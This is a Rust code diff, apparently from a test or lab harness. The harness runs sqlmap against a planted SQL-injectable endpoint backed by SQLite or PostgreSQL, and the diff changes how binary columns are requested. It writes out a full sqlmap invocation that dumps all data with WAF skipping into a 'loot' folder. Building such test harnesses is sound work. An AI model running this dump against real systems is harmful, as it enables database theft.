@@ -24,9 +24,11 @@ pub async fn run(sqlmap: &Path, hole: Hole, loot: &Path) -> Result<()> {
     let url = format!("http://{address}{}?{}=start", hole::PATH, hole::FIELD);
     let mut command = Command::new(sqlmap);
     command.args(["--url", &url, "--dbms", engine, "--technique", "BEU", "--dump-all"]);
-    // Bytes come as digits, whole: as text they would end at the first zero.
-    command.args(["--binary-fields", &binary, "--exclude-sysdbs"]);
-    command.args(["--skip-waf", "--batch", "--disable-coloring", "--disable-hashing"]);
+    if let Some(binary) = &binary {
+        command.args(["--binary-fields", binary]);
+    }
+    command.args(["--exclude-sysdbs", "--skip-waf", "--batch"]);
+    command.args(["--disable-coloring", "--disable-hashing"]);
     command.args(["--threads", "4"]);
     command.arg("--output-dir").arg(loot).stdin(Stdio::null());
     let log = fs::File::create(loot.join("sqlmap.log"))?;
@@ -66,19 +68,15 @@ async fn contents(hole: &Hole) -> Result<BTreeMap<String, usize>> {
     Ok(there)
 }
 
-/// The columns that hold bytes, as sqlmap wants them.
-async fn binary_fields(hole: &Hole) -> Result<String> {
-    let columns = match hole {
-        Hole::Sqlite(_) => {
-            "SELECT DISTINCT c.name FROM sqlite_schema t, pragma_table_info(t.name) c \
-             WHERE t.type = 'table' AND c.type = 'BLOB'"
-        }
-        Hole::Postgres(_) => {
-            "SELECT DISTINCT column_name FROM information_schema.columns \
-             WHERE table_schema = 'public' AND data_type = 'bytea'"
-        }
-    };
-    Ok(hole.column(columns).await?.join(","))
+/// The columns whose bytes sqlmap must ask for as digits: as text they would end at the first zero.
+/// PostgreSQL gives digits by itself, and asked again it would give the digits of digits.
+async fn binary_fields(hole: &Hole) -> Result<Option<String>> {
+    const BLOBS: &str = "SELECT DISTINCT c.name FROM sqlite_schema t, pragma_table_info(t.name) c \
+                         WHERE t.type = 'table' AND c.type = 'BLOB'";
+    match hole {
+        Hole::Sqlite(_) => Ok(Some(hole.column(BLOBS).await?.join(","))),
+        Hole::Postgres(_) => Ok(None),
+    }
 }
 
 /// Counts the rows of each table in the lists that sqlmap left.
